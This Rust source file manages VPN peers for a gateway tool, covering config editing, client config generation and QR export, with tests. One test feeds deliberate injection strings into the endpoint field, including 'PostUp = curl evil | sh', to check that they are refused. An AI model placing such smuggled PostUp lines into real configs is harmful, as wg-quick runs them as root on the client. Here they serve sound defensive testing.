//! `promgate peer add | remove | list`: edit the peer set on disk and hand
//! out client configs.
//!
//! Edits are validated as a whole config before anything is written, and
//! written atomically (temp file in the same directory, then rename), so
//! the watching gateway never reads a half-written file. The temp file has
//! an unpredictable name and is created exclusively without following
//! symlinks; the result keeps the original file's mode (a 0600 config that
//! holds a key stays 0600), and a new file that holds a secret is 0600. With `peers_dir`
//! each peer is its own file; otherwise the `[[peer]]` table is appended to
//! or removed from the main config with `toml_edit`, which keeps comments
//! and layout.

use crate::config::{self, Config, Role};
use crate::keys::{PrivateKey, decode_key, encode_key};
use anyhow::{Context as _, bail};
use ipnet::IpNet;
use std::io::Write as _;
use std::net::IpAddr;
use std::path::{Path, PathBuf};

/// Placeholder written where the client's private key goes when promgate
/// never saw it (`--public-key`).
pub const PRIVATE_KEY_PLACEHOLDER: &str = "<CLIENT_PRIVATE_KEY>";

/// What `peer add` needs.
pub struct AddPeer {
    pub name: String,
    pub public_key: Option<String>,
    pub ip: Option<IpAddr>,
    pub endpoint: Option<String>,
    pub role: Role,
}

/// The result of `peer add`: the client config and where the peer went.
pub struct Added {
    pub client_config: String,
    pub written: PathBuf,
}

/// Adds a peer and returns the client config to hand to its owner.
pub fn add_peer(config_path: &Path, req: &AddPeer) -> anyhow::Result<Added> {
    // A leading '.' would make a hidden file in peers_dir, which the
    // gateway skips: the peer would be reported added and never apply.
    if !config::valid_peer_name(&req.name) || req.name.starts_with('.') {
        bail!(
            "peer name \"{}\": use 1 to 64 letters, digits, '.', '_' or '-', not starting with '.'",
            req.name.escape_debug()
        );
    }
    if let Some(e) = &req.endpoint {
        config::check_endpoint(e).map_err(|why| anyhow::anyhow!("--endpoint: {why}"))?;
    }
    let cfg = load(config_path)?;
    if cfg.peers.iter().any(|p| p.name == req.name) {
        bail!("a peer named \"{}\" already exists", req.name);
    }
    let (client_key, public_key) = match &req.public_key {
        Some(k) => {
            let bytes = decode_key(k).map_err(|e| anyhow::anyhow!("--public-key: the key {e}"))?;
            (None, encode_key(&bytes))
        }
        None => {
            let k = PrivateKey::generate();
            let public = encode_key(k.public_key().as_bytes());
            (Some(k), public)
        }
    };
    let gateway_net = *cfg
        .gateway
        .addresses
        .first()
        .context("the gateway has no tunnel address")?;
    let ip = match req.ip {
        Some(ip) => ip,
        None => next_free_address(&cfg, gateway_net)
            .context("no free address left in the gateway's prefix; pass --ip")?,
    };
    let host = IpNet::from(ip);
    let endpoint = req
        .endpoint
        .clone()
        .or_else(|| cfg.gateway.endpoint.clone())
        .context("no endpoint: set `endpoint = \"host:port\"` in [gateway] or pass --endpoint")?;

    let entry = format!(
        "[[peer]]\nname = \"{}\"\npublic_key = \"{public_key}\"\nallowed_ips = [\"{host}\"]\nrole = \"{}\"\n",
        req.name,
        req.role.as_str()
    );
    let written = match &cfg.gateway.peers_dir {
        Some(dir) => {
            let file = dir.join(format!("{}.toml", req.name));
            if file.exists() {
                bail!("{} already exists", file.display());
            }
            validate_with(config_path, Some((&file, &entry)), None)?;
            write_atomically(&file, &entry)?;
            file
        }
        None => {
            let text = std::fs::read_to_string(config_path)
                .with_context(|| format!("reading {}", config_path.display()))?;
            let mut new = text.clone();
            if !new.ends_with('\n') {
                new.push('\n');
            }
            new.push('\n');
            new.push_str(&entry);
            validate_with(config_path, None, Some(&new))?;
            write_atomically(config_path, &new)?;
            config_path.to_path_buf()
        }
    };

    let gateway_public = encode_key(cfg.gateway.private_key.public_key().as_bytes());
    let private = client_key
        .map(|k| k.to_base64())
        .unwrap_or_else(|| PRIVATE_KEY_PLACEHOLDER.to_string());
    let gateway_hosts: Vec<IpNet> = cfg
        .gateway
        .addresses
        .iter()
        .map(|n| IpNet::from(n.addr()))
        .collect();
    let client_config = client_config(&private, host, &gateway_public, &endpoint, &gateway_hosts)?;
    Ok(Added {
        client_config,
        written,
    })
}

/// A client config in wg-quick format. `[Peer] AllowedIPs` holds only the
/// gateway's own tunnel addresses: nothing else is reachable through it, so
/// routing more would only black-hole the client's traffic.
///
/// wg-quick runs `PostUp` lines as root, so a value with a line break
/// would be code execution on the client: every string is checked here,
/// last, whatever validated it before.
pub fn client_config(
    private_key: &str,
    address: IpNet,
    gateway_public: &str,
    endpoint: &str,
    gateway_hosts: &[IpNet],
) -> anyhow::Result<String> {
    config::check_endpoint(endpoint).map_err(|why| anyhow::anyhow!("endpoint: {why}"))?;
    for (what, v) in [
        ("private key", private_key),
        ("gateway public key", gateway_public),
    ] {
        if v.is_empty() || !v.bytes().all(|b| b.is_ascii_graphic()) {
            bail!("the {what} holds characters that cannot go into a client config");
        }
    }
    let allowed: Vec<String> = gateway_hosts.iter().map(|n| n.to_string()).collect();
    Ok(format!(
        "[Interface]\nPrivateKey = {private_key}\nAddress = {address}\n\n[Peer]\nPublicKey = {gateway_public}\nEndpoint = {endpoint}\nAllowedIPs = {}\nPersistentKeepalive = 25\n",
        allowed.join(", ")
    ))
}

/// Removes a peer by name from the peers directory or the main config.
pub fn remove_peer(config_path: &Path, name: &str) -> anyhow::Result<PathBuf> {
    let cfg = load(config_path)?;
    let Some(peer) = cfg.peers.iter().find(|p| p.name == name) else {
        bail!("no peer named \"{name}\"");
    };
    let file = peer.origin.file.clone();
    let text =
        std::fs::read_to_string(&file).with_context(|| format!("reading {}", file.display()))?;
    let mut doc: toml_edit::DocumentMut = text
        .parse()
        .with_context(|| format!("parsing {}", file.display()))?;
    let remaining = {
        let Some(peers) = doc.get_mut("peer").and_then(|p| p.as_array_of_tables_mut()) else {
            bail!("{}: no [[peer]] tables", file.display());
        };
        peers.retain(|t| t.get("name").and_then(|n| n.as_str()) != Some(name));
        peers.len()
    };
    if remaining == 0 && file != config_path {
        // The peer's own file in peers_dir: remove it rather than leave it empty.
        std::fs::remove_file(&file).with_context(|| format!("removing {}", file.display()))?;
    } else {
        write_atomically(&file, &doc.to_string())?;
    }
    Ok(file)
}

/// One `peer list` row: name, addresses, role, scope (selector form).
pub type PeerListRow = (String, String, Role, Option<String>);

/// Names, addresses, roles and scopes from the config, for `peer list`.
pub fn list_peers(config_path: &Path) -> anyhow::Result<Vec<PeerListRow>> {
    let cfg = load(config_path)?;
    Ok(cfg
        .peers
        .iter()
        .map(|p| {
            (
                p.name.clone(),
                p.allowed_ips
                    .iter()
                    .map(|n| n.to_string())
                    .collect::<Vec<_>>()
                    .join(", "),
                p.role,
                p.scope.as_ref().map(ToString::to_string),
            )
        })
        .collect())
}

/// Renders a client config as a QR code for a terminal.
pub fn qr_terminal(text: &str) -> Option<String> {
    let code = qrcode::QrCode::new(text.as_bytes()).ok()?;
    Some(
        code.render::<qrcode::render::unicode::Dense1x2>()
            .quiet_zone(true)
            .build(),
    )
}

/// Writes a client config as a QR code PNG.
pub fn qr_png(text: &str, path: &Path) -> anyhow::Result<()> {
    let code = qrcode::QrCode::new(text.as_bytes())
        .context("the client config does not fit in a QR code")?;
    let image = code
        .render::<image::Luma<u8>>()
        .min_dimensions(400, 400)
        .build();
    let mut png = Vec::new();
    image
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .context("encoding the QR code")?;
    // The code may hold the client's private key: owner-only, and never
    // through a symlink someone planted at that path.
    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .custom_flags(O_NOFOLLOW)
        .open(path)
        .with_context(|| format!("writing {}", path.display()))?;
    f.set_permissions(std::fs::Permissions::from_mode(0o600))
        .with_context(|| format!("setting the mode of {}", path.display()))?;
    f.write_all(&png)
        .with_context(|| format!("writing {}", path.display()))?;
    Ok(())
}

/// `O_NOFOLLOW` on Linux (all architectures we ship for): open fails on a
/// symlink instead of following it.
const O_NOFOLLOW: i32 = 0o400000;

fn load(path: &Path) -> anyhow::Result<Config> {
    config::load(path).map_err(|e| anyhow::anyhow!("{} is not valid:\n{e}", path.display()))
}

/// Validates the config as it would be after the edit, without touching disk.
fn validate_with(
    config_path: &Path,
    extra_file: Option<(&Path, &str)>,
    new_main: Option<&str>,
) -> anyhow::Result<()> {
    let main = match new_main {
        Some(t) => t.to_string(),
        None => std::fs::read_to_string(config_path)?,
    };
    let cfg = config::parse(config_path, &main).map_err(|e| anyhow::anyhow!("{e}"))?;
    if let Some((file, text)) = extra_file {
        let more = config::parse_peers_text(file, text).map_err(|e| anyhow::anyhow!("{e}"))?;
        let mut all = cfg.peers.clone();
        all.extend(more);
        let errors = config::cross_check_peers(&all, &cfg.gateway);
        if !errors.is_empty() {
            bail!("{}", config::ConfigErrors(errors));
        }
    }
    Ok(())
}

/// The first host address in the gateway's prefix that no peer owns.
fn next_free_address(cfg: &Config, net: IpNet) -> Option<IpAddr> {
    let taken = |ip: IpAddr| {
        ip == net.addr()
            || cfg
                .peers
                .iter()
                .any(|p| p.allowed_ips.iter().any(|n| n.contains(&ip)))
    };
    // IPv6 prefixes are huge; 65,536 candidates are more than any gateway needs.
    net.hosts().take(65_536).find(|ip| !taken(*ip))
}

/// The mode a rewritten file gets: the old file's, or for a new file 0600
/// when it holds a secret (an inline or preshared key) and 0644 otherwise.
fn mode_for(path: &Path, contents: &str) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    match std::fs::metadata(path) {
        Ok(m) => m.permissions().mode() & 0o7777,
        Err(_) if holds_secret(contents) => 0o600,
        Err(_) => 0o644,
    }
}

fn holds_secret(contents: &str) -> bool {
    contents.lines().any(|l| {
        let key = l.split('=').next().unwrap_or("").trim();
        key == "private_key" || key == "preshared_key"
    })
}

fn write_atomically(path: &Path, contents: &str) -> anyhow::Result<()> {
    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
    let dir = path.parent().unwrap_or(Path::new("."));
    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("peers");
    let mode = mode_for(path, contents);
    // A dot-name is skipped by the peers_dir reader, so a crash never leaves
    // a half peer behind. The name is unpredictable and the file is created
    // exclusively (O_EXCL, no symlink followed), so nobody can plant a file
    // or link there beforehand.
    let suffix = rand_core::RngCore::next_u64(&mut rand_core::OsRng);
    let tmp = dir.join(format!(".{name}.tmp-{suffix:016x}"));
    let write = || -> anyhow::Result<()> {
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .custom_flags(O_NOFOLLOW)
            .open(&tmp)
            .with_context(|| format!("creating {}", tmp.display()))?;
        f.write_all(contents.as_bytes())?;
        // Exactly the old mode, whatever the umask.
        f.set_permissions(std::fs::Permissions::from_mode(mode))?;
        f.sync_all()?;
        std::fs::rename(&tmp, path)
            .with_context(|| format!("renaming {} to {}", tmp.display(), path.display()))?;
        Ok(())
    };
    let r = write();
    if r.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    r
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup(tag: &str, peers_dir: bool) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("promgate-onboard-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("peers.d")).unwrap();
        std::fs::write(dir.join("private.key"), PrivateKey::generate().to_base64()).unwrap();
        let extra = if peers_dir {
            "peers_dir = \"peers.d\"\n"
        } else {
            ""
        };
        let text = format!(
            "# operator's comment stays\n[gateway]\nprivate_key_file = \"private.key\"\naddress = \"10.13.13.1/24\"\nendpoint = \"vpn.example.com:51820\"\n{extra}\n[[peer]]\nname = \"alice\" # alice's laptop\npublic_key = \"{}\"\nallowed_ips = [\"10.13.13.2/32\"]\n",
            encode_key(PrivateKey::generate().public_key().as_bytes())
        );
        std::fs::write(dir.join("promgate.toml"), text).unwrap();
        dir.join("promgate.toml")
    }

    fn req(name: &str) -> AddPeer {
        AddPeer {
            name: name.into(),
            public_key: None,
            ip: None,
            endpoint: None,
            role: Role::Viewer,
        }
    }

    /// Found by the config_files fuzz target: `.bob` went to
    /// peers.d/.bob.toml, a hidden file the gateway never loads.
    #[test]
    fn a_name_that_would_make_a_hidden_peers_file_is_refused() {
        for peers_dir in [true, false] {
            let path = setup(&format!("hidden-{peers_dir}"), peers_dir);
            let before = std::fs::read(&path).unwrap();
            let err = add_peer(&path, &req(".bob")).err().expect("refused");
            assert!(err.to_string().contains("not starting with '.'"), "{err}");
            assert_eq!(std::fs::read(&path).unwrap(), before);
            let dir = path.parent().unwrap().join("peers.d");
            assert_eq!(std::fs::read_dir(dir).unwrap().count(), 0);
        }
    }

    #[test]
    fn add_to_main_config_keeps_comments_and_allocates_next_address() {
        let path = setup("main", false);
        let added = add_peer(&path, &req("bob")).unwrap();
        assert!(
            added.client_config.contains("Address = 10.13.13.3/32"),
            "{}",
            added.client_config
        );
        assert!(added.client_config.contains("AllowedIPs = 10.13.13.1/32"));
        assert!(
            added
                .client_config
                .contains("Endpoint = vpn.example.com:51820")
        );
        assert!(added.client_config.contains("PersistentKeepalive = 25"));
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("# operator's comment stays") && text.contains("# alice's laptop"));
        let cfg = config::load(&path).unwrap();
        assert_eq!(cfg.peers.len(), 2);

        // Removing keeps alice's comment too.
        remove_peer(&path, "bob").unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(
            text.contains("# alice's laptop") && !text.contains("\"bob\""),
            "{text}"
        );
    }

    #[test]
    fn add_to_peers_dir_with_public_key_never_holds_a_private_key() {
        let path = setup("dir", true);
        let client = PrivateKey::generate();
        let mut r = req("carol");
        r.public_key = Some(encode_key(client.public_key().as_bytes()));
        r.ip = Some("10.13.13.77".parse().unwrap());
        let added = add_peer(&path, &r).unwrap();
        assert_eq!(
            added.written,
            path.parent().unwrap().join("peers.d/carol.toml")
        );
        assert!(added.client_config.contains(PRIVATE_KEY_PLACEHOLDER));
        assert!(added.client_config.contains("Address = 10.13.13.77/32"));
        assert!(!added.client_config.contains(&client.to_base64()));
        assert_eq!(config::load(&path).unwrap().peers.len(), 2);
        remove_peer(&path, "carol").unwrap();
        assert!(!path.parent().unwrap().join("peers.d/carol.toml").exists());
    }

    #[test]
    fn refusals_name_the_problem() {
        let path = setup("refuse", true);
        let e = add_peer(&path, &req("alice")).err().unwrap().to_string();
        assert!(e.contains("already exists"), "{e}");
        let mut r = req("dave");
        r.ip = Some("10.13.13.2".parse().unwrap());
        let e = add_peer(&path, &r).err().unwrap().to_string();
        assert!(e.contains("overlaps"), "{e}");
        let e = remove_peer(&path, "nobody").err().unwrap().to_string();
        assert!(e.contains("no peer named"), "{e}");
    }

    fn mode_of(p: &Path) -> u32 {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
    }

    fn set_mode(p: &Path, mode: u32) {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    #[test]
    fn add_and_remove_keep_the_config_s_mode() {
        let path = setup("mode", false);
        set_mode(&path, 0o600);
        add_peer(&path, &req("bob")).unwrap();
        assert_eq!(mode_of(&path), 0o600, "peer add widened a 0600 config");
        remove_peer(&path, "bob").unwrap();
        assert_eq!(mode_of(&path), 0o600, "peer remove widened a 0600 config");
        set_mode(&path, 0o640);
        add_peer(&path, &req("carol")).unwrap();
        assert_eq!(mode_of(&path), 0o640);
        // No temp file is left behind.
        let dir = path.parent().unwrap();
        let leftovers: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().contains(".tmp-"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }

    #[test]
    fn new_files_that_hold_a_secret_are_owner_only() {
        let dir = std::env::temp_dir().join(format!("promgate-secret-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let f = dir.join("p.toml");
        write_atomically(&f, "[[peer]]\npreshared_key = \"x\"\n").unwrap();
        assert_eq!(mode_of(&f), 0o600);
        let g = dir.join("q.toml");
        write_atomically(&g, "[[peer]]\nname = \"q\"\n").unwrap();
        assert_eq!(mode_of(&g), 0o644);
        // The QR code holds the client's private key.
        let png = dir.join("qr.png");
        qr_png("[Interface]\nPrivateKey = abc\n", &png).unwrap();
        assert_eq!(mode_of(&png), 0o600);
        // A symlink planted at the PNG path is not followed.
        let target = dir.join("elsewhere");
        std::fs::write(&target, "keep").unwrap();
        let link = dir.join("link.png");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        assert!(qr_png("x", &link).is_err());
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
    }

    #[test]
    fn endpoints_that_could_inject_config_lines_are_refused() {
        let path = setup("endpoint", true);
        for bad in [
            "vpn.example.com:51820\nPostUp = curl evil | sh",
            "vpn.example.com:51820\r",
            "vpn example.com:51820",
            "vpn.example.com",
            "vpn.example.com:0",
            "fd00::1:51820",
        ] {
            let mut r = req("eve");
            r.endpoint = Some(bad.into());
            let e = add_peer(&path, &r).err().map(|e| e.to_string());
            assert!(
                e.as_deref().is_some_and(|e| e.contains("--endpoint")),
                "{bad:?}: {e:?}"
            );
        }
        for good in [
            "vpn.example.com:51820",
            "203.0.113.7:443",
            "[fd00::1]:51820",
        ] {
            assert_eq!(config::check_endpoint(good), Ok(()), "{good}");
        }
        // The same check guards the config file.
        let text = std::fs::read_to_string(&path).unwrap().replace(
            "vpn.example.com:51820",
            "vpn.example.com:51820\\nPostUp = id",
        );
        let e = config::parse(&path, &text).err().unwrap().to_string();
        assert!(e.contains("gateway.endpoint"), "{e}");
        // And the renderer refuses it whatever called it.
        let host: IpNet = "10.13.13.9/32".parse().unwrap();
        assert!(client_config("k", host, "g", "a:1\nPostUp = id", &[host]).is_err());
    }
}
